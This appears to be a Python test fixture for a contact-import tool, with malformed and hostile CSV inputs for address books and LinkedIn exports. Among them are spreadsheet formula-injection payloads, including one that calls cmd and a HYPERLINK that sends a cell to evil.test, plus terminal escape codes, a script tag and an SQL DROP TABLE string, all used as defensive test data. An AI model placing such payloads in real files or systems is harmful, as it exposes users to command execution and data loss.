"""Tables: address books, LinkedIn's and our own."""
import codecs

from case import partly, read, stopped

HEADER = b"First Name,Last Name,Email,Company,Notes\n"
ANA = b"Ana,Ruiz,ana@example.org,Lumen,\n"
BEN = b"Ben,Okafor,ben@example.org,Acme,\n"
BOOK = HEADER + ANA + BEN
CONNECTIONS = b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
NOTE = b'Notes:\n"When exporting your connection data, some addresses are missing."\n\n'


def one(value, column=0):
    """A book of two whose first row holds the value in that column."""
    row = [b"Ana", b"Ruiz", b"ana@example.org", b"Lumen", b""]
    row[column] = value
    return HEADER + b",".join(row) + b"\n" + BEN


def wide():
    names = b",".join(b"c%d" % i for i in range(10_000))
    return b"First Name,Last Name,Email," + names + b"\nAna,Ruiz,ana@example.org" + b",x" * 10_000 + b"\n"


def many_rows():
    return HEADER + b"".join(b"P%d,Q%d,p%d@example.org,Acme,\n" % (i, i, i) for i in range(20_000))


BOOKS = [
    stopped("csv/empty.csv", b"", "is empty"),
    stopped("csv/mark_alone.csv", codecs.BOM_UTF8),
    stopped("csv/lines_alone.csv", b"\r\n\r\n\n\n"),
    stopped("csv/blanks_alone.csv", b" \t \n  \n"),
    read("csv/header_alone.csv", HEADER, says="columns:"),
    read("csv/no_header.csv", b"Ana Ruiz,ana@example.org\nBen Okafor,ben@example.org\n", people=2,
         flags=["--as", "csv"]),
    read("csv/semicolons.csv", BOOK.replace(b",", b";"), people=2),
    read("csv/tabs.csv", BOOK.replace(b",", b"\t"), people=2),
    stopped("csv/bars.csv", BOOK.replace(b",", b"|")),
    partly("csv/unclosed_quote.csv", BOOK + b'"Cem,Ay,cem@example.org,Acme,\nDea,Li,dea@x.org,,\n',
           1, people=2, says="a quote opens here and never closes"),
    partly("csv/unclosed_in_header.csv", b'First Name,Last Name,"Email\nAna,Ruiz,ana@example.org\n',
           1, says="a quote opens here and never closes", flags=["--as", "csv"]),
    partly("csv/wide.csv", wide, 1, says="cells"),
    partly("csv/too_wide.csv", HEADER + b"Ana,Ruiz,a@example.org" + b",x" * 20_000 + b"\n" + BEN, 1,
           people=1, says="cells"),
    partly("csv/row_too_long.csv", BOOK + b"Cem,Ay,cem@example.org,Acme, Ltd,x,y\n", 1, people=2,
           says="put text that has commas in quotes"),
    read("csv/row_too_short.csv", HEADER + b"Ana\nBen,Okafor\n", people=2),
    read("csv/formula.csv", one(b"=cmd|' /C calc'!A0"), people=2),
    read("csv/formula_at.csv", one(b"@SUM(1+1)*cmd"), people=2),
    read("csv/formula_link.csv", one(b'"=HYPERLINK(""http://evil.test/?""&A1,""x"")"', 4), people=2),
    read("csv/twice_named.csv", b"Name,Name,Email,Email\nAna Ruiz,x,ana@example.org,a2@example.org\n",
         people=1),
    read("csv/header_again.csv", BOOK + HEADER, people=3),
    read("csv/utf16le.csv", BOOK.decode().encode("utf-16"), people=2),
    read("csv/utf16be.csv", codecs.BOM_UTF16_BE + BOOK.decode().encode("utf-16-be"), people=2),
    read("csv/utf16_unmarked.csv", BOOK.decode().encode("utf-16-le"), people=2),
    read("csv/utf16_odd_byte.csv", BOOK.decode().encode("utf-16") + b"\x41", people=2),
    stopped("csv/utf32.csv", BOOK.decode().encode("utf-32")),
    read("csv/cp1252.csv", one("Zoë".encode("cp1252")), people=2),
    read("csv/not_utf8.csv", one(b"\xff\xfe\xc3\x28\xed\xa0\x80\xf8\x88"), people=2),
    read("csv/overlong.csv", one(b"\xc0\xaf\xe0\x80\xaf"), people=2),
    stopped("csv/nul_in_cell.csv", one(b"A\0na")),
    read("csv/right_to_left.csv", one("‮anA‬⁦x".encode()), people=2),
    read("csv/zero_width.csv", one("A​n‍a﻿".encode()), people=2),
    read("csv/marks.csv", one(("e" + "́" * 1000).encode()), people=2),
    read("csv/escapes.csv", one(b"\x1b]0;evil\x07\x1b[31mAna"), people=2, never="\x1b[31m"),
    read("csv/long_name.csv", one(b"A" * 1_000_000), people=2),
    read("csv/long_notes.csv", one(b"n " * 1_000_000, 4), people=2),
    read("csv/quotes.csv", one(b'"' + b'""' * 500_000 + b'"', 4), people=2),
    read("csv/quote_inside.csv", one(b'Ana "the boss"'), people=2),
    read("csv/text_after_quote.csv", one(b'"Ana" B'), people=2),
    read("csv/returns_only.csv", BOOK.replace(b"\n", b"\r"), people=2),
    read("csv/mixed_lines.csv", HEADER + ANA.replace(b"\n", b"\r\n") + BEN, people=2),
    read("csv/lines_in_cell.csv", one(b'"1\r\n2\n3\r4"', 4), people=2),
    read("csv/many_addresses.csv", one(b";".join(b"a%d@example.org" % i for i in range(50_000)), 2),
         people=2),
    read("csv/long_address.csv", one(b"a" * 100_000 + b"@example.org", 2), people=2),
    read("csv/endless_commas.csv", HEADER + b",\n" * 200_000 + ANA, people=1),
    read("csv/many_rows.csv", many_rows, people=20_000),
    read("csv/zero_dates.csv", b"First Name,Last Name,E-mail Address,E-mail Type,Birthday\n"
         b"Ana,Ruiz,ana@example.org,SMTP,0/0/00\nBen,Okafor,/o=Org/ou=X/cn=ben,EX,00/00/0000\n",
         people=2, never=["0/0/00", "cn=ben"]),
    read("csv/linked_pictures.csv", b"Name,E-mail 1 - Value,Photo\n"
         b"Ana Ruiz,ana@example.org,http://127.0.0.1:9/x.png\n", people=1),
    stopped("csv/columns_that_are_not.csv", BOOK, "there is no column",
            flags=["--as", "csv:name=Nome"]),
]

LINKEDIN = [
    read("linkedin/Connections.csv", NOTE + CONNECTIONS +
         b"Ana,Ruiz,https://www.linkedin.com/in/ana-ruiz,,Lumen,Head,08 Feb 2026\n", people=1, ties=1),
    read("linkedin/hidden/Connections.csv", NOTE + CONNECTIONS + b",,,,,,07 Jun 2026\n" * 5,
         says="5 hidden members"),
    partly("linkedin/dates/Connections.csv", CONNECTIONS +
           b"Ana,Ruiz,https://www.linkedin.com/in/ana-ruiz,,Lumen,Head,99 Feb 2026\n", 1, people=1,
           ties=1, says="a date like 08 Feb 2026"),
    partly("linkedin/broken/Connections.csv", CONNECTIONS + b"BADROW\n"
           b"Ana,Ruiz,https://www.linkedin.com/in/ana-ruiz,,Lumen,Head,08 Feb 2026\n", 1, people=1,
           ties=1),
    read("linkedin/again/Connections.csv", CONNECTIONS +
         b"Ana,Ruiz,https://www.linkedin.com/in/ana-ruiz,,Lumen,Head,08 Feb 2026\n" * 3, people=1,
         ties=1, says="2 rows repeat a profile"),
    stopped("linkedin/long_note/Connections.csv", b'"' + b"note " * 100_000 + b'\n' + CONNECTIONS +
            b"Ana,Ruiz,,,Lumen,Head,08 Feb 2026\n", flags=["--as", "linkedin"]),
    read("linkedin/html/messages.csv",
         b"CONVERSATION ID,CONVERSATION TITLE,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,DATE,"
         b"SUBJECT,CONTENT,FOLDER\n"
         b'c,,Ana Ruiz,https://www.linkedin.com/in/ana,Me,https://www.linkedin.com/in/me,'
         b'2026-01-02 10:00:00 UTC,s,"<script>alert(1)</script>\nline",INBOX\n',
         people=2, touches=1, never="<script>"),
    partly("linkedin/bad_date/messages.csv",
           b"CONVERSATION ID,FROM,SENDER PROFILE URL,TO,DATE,CONTENT,FOLDER\n"
           b"c,Ana Ruiz,https://www.linkedin.com/in/ana,Me,yesterday,x,INBOX\n", 1, people=0),
    read("linkedin/sponsored/messages.csv",
         b"CONVERSATION ID,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,DATE,CONTENT,FOLDER\n"
         b'c,Acme,,Me,https://www.linkedin.com/in/me,2026-01-02 10:00:00 UTC,'
         b'"<p class=""spinmail-quill-editor__spin-break"">Hi %FIRSTNAME%",INBOX\n', says="1 "),
]

OWN = [
    read("own/sql/people.csv", b"id,name\n\"x'); DROP TABLE people;--\",\"Robert'); DELETE\"\n",
         people=1),
    partly("own/cells/people.csv", b"id,name,load\na,Ana,hectic\n", 1, people=1, says="hectic"),
    partly("own/numbers/ties.csv", b"person,other,kind,closeness\nAna,Ben,friend,999999999999999999\n",
           1, says="a whole number from 1 to 5"),
    partly("own/nobody/ties.csv", b"person,other,kind\nme,nobody here,friend\n", 1,
           ties=1, says="nobody is called"),
    partly("own/days/asks.csv", b"date,to,what,medium,minutes,outcome\n"
           b"0000-00-00,Ana,advice,coffee,20,yes\n", 1, says="a date like 2026-01-31"),
    partly("own/columns/ties.csv", b"person,kind\nAna,friend\n", 1, says="other",
           flags=["--as", "spreadsheets"]),
]

CASES = BOOKS + LINKEDIN + OWN
